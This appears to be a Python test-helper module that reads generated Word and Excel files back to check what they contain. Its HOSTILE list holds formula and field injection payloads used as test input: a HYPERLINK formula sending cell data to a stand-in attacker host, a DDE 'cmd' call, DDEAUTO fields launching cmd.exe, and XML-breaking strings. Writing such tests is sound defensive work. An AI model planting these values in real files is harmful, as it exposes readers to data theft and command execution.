"""What Word and Excel files say, read back by other libraries than those that wrote them where there are such."""

from collections.abc import Iterator
from dataclasses import fields, is_dataclass
from io import BytesIO
from typing import Any
from zipfile import ZipFile

import docx
import openpyxl
from docx.table import Table as WordTable
from docx.text.paragraph import Paragraph as WordParagraph

from skillmatrix.view.blocks import (
    Bar,
    Block,
    Cell,
    Chart,
    Column,
    Item,
    Items,
    Key,
    Note,
    Panel,
    Paper,
    Paragraph,
    Section,
    Table,
)
from skillmatrix.view.plain_text import printable_lines

TABLE = Table(
    (Column("Skill"), Column("Now", "right"), Column("To go")),
    (
        (Cell("SQL"), Cell("2", 2), Cell("1 to go", 1, state="blocked")),
        (Cell("Git"), Cell("–"), Cell("done", 0, state="muted")),
    ),
)
CHART = Chart(
    "levels",
    "Levels",
    (Panel("Data", "SQL: 2 of 3.", (Bar("SQL", "1 to go", "blocked", 0, 2, 3),)), Panel("Work", "Git.", ())),
    TABLE,
    1,
    (Key("met", "now"), Key("below", "to go")),
    0,
    5,
)
EVERYTHING: tuple[Block, ...] = (
    Paragraph("P", lead="Lead."),
    Note("N"),
    Items((Item("I", lead="L:", details=("D", "E"), state="blocked"), Item("J"))),
    Items((Item("K"), Item("M")), ordered=True),
    TABLE,
    CHART,
)
HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://attacker.invalid/?"&A1,"click")',
    "+1-1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "＝1+1", "x;=1+1",
    "{=1+1}", "https://attacker.invalid/x", "mailto:a@b.invalid", "internal:'Data'!A1", "external:c:\\x.xlsx",
    "<w:t>x</w:t> & <b>bold</b> ]]> <!-- x -->", '</w:t></w:r><w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/>',
    "{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe }", "&amp; &#65; &lt;", "_x0041_", "%n %s {0} {page}",
    "bell \x07 escape \x1b[31m nul \x00 delete \x7f next line \x85", "lone \ud800 surrogate, noncharacter \uffff",
    "turned \u202e around \u2066 isolate \u200f mark", "a" * 300, "ÄÖÜß„“–…", "👩‍🔬 🇩🇪 😀", "שלום עולם, abc 123", "مرحبا بالعالم",
    "'apostrophe", "''=1", "1e9", "007", "1/2", "TRUE", "  blanks  around  ", "line\nbreak\r\nand more", "\u2028", "&P &N &D",
]  # fmt: skip


def paper(*blocks: Block, language: str = "en", heading: str = "Heading", data: Table | None = None) -> Paper:
    """A page with one section."""
    return Paper("Title", language, ("Subtitle",), (Section("s", heading, blocks),), ("Closing",), data=data)


def hostile_paper(text: str) -> Paper:
    """A page with the text in every place that a text can have."""
    table = Table((Column(text), Column(text, "right")), ((Cell(text), Cell(text, state="blocked")),), text)
    chart = Chart(
        "gaps", text, (Panel(text, text, (Bar(text, text, "below", 0, 1, 1),)),), table, 1, (Key("below", text),)
    )
    items = Items((Item(text, text, (text, text)),))
    blocks = (Paragraph(text, text), Note(text), items, Items((Item(text),), ordered=True), table, chart)
    sections = (Section("draft", "", (Note(text),)), Section("s", text, blocks), Section("t", text, (table,)))
    return Paper(text, "de", (text,), sections, (text,), data=table)


def texts(thing: Any) -> Iterator[str]:
    """Every text of a paper that is on the page: labels of charts are in their tables."""
    if isinstance(thing, str):
        yield thing
    elif isinstance(thing, Chart):
        yield from (thing.title, *texts(thing.table))
    elif isinstance(thing, (Item, Paragraph)):
        yield from (part for part in (thing.lead, thing.text, *getattr(thing, "details", ())) if part)
    elif isinstance(thing, Items):
        yield from (text for item in thing.items for text in texts(item))
    elif isinstance(thing, Section):
        yield from (thing.heading, *(text for block in thing.blocks for text in texts(block)))
    elif isinstance(thing, Table):
        yield from (thing.caption, *(column.label for column in thing.columns))
        yield from (cell.text for row in thing.rows for cell in row)
    elif isinstance(thing, Paper):
        yield from (thing.title, *thing.subtitle, *thing.closing)
        yield from (text for section in thing.sections for text in texts(section))
    else:
        assert is_dataclass(thing)
        yield from (getattr(thing, field.name) for field in fields(thing) if field.name == "text")


def shown_texts(page: Paper) -> list[str]:
    """The same as they are shown: line by line, control characters spelled out."""
    return [shown for text in texts(page) if (shown := printable_lines(text))]


def word_lines(data: bytes) -> list[tuple[str, str]]:
    """Each paragraph with the name of its style, and each row of a table with the style of the table."""
    lines = []
    for block in docx.Document(BytesIO(data)).iter_inner_content():
        if isinstance(block, WordParagraph):
            lines.append((block.style.name, block.text))
        else:
            lines += [(block.style.name, " | ".join(cells)) for cells in word_rows(block)]
    return lines


def word_rows(table: WordTable) -> list[list[str]]:
    """The texts of a table; a cell that spans two columns is one."""
    return [["\n".join(p.text for p in WordTableCell(tc, table)) for tc in row._tr.tc_lst] for row in table.rows]


def WordTableCell(tc: Any, table: WordTable) -> list[WordParagraph]:  # noqa: N802 - reads like the class it stands for
    return [WordParagraph(p, table) for p in tc.p_lst]


def word_text(data: bytes) -> str:
    """Everything on the page."""
    return "\n".join(text for _, text in word_lines(data))


def sheets(data: bytes) -> dict[str, list[list[Any]]]:
    """The values of all sheets by name."""
    book = openpyxl.load_workbook(BytesIO(data))
    return {sheet.title: [[cell.value for cell in row] for row in sheet.iter_rows()] for sheet in book}


def parts(data: bytes) -> dict[str, bytes]:
    """What is in a file."""
    with ZipFile(BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}
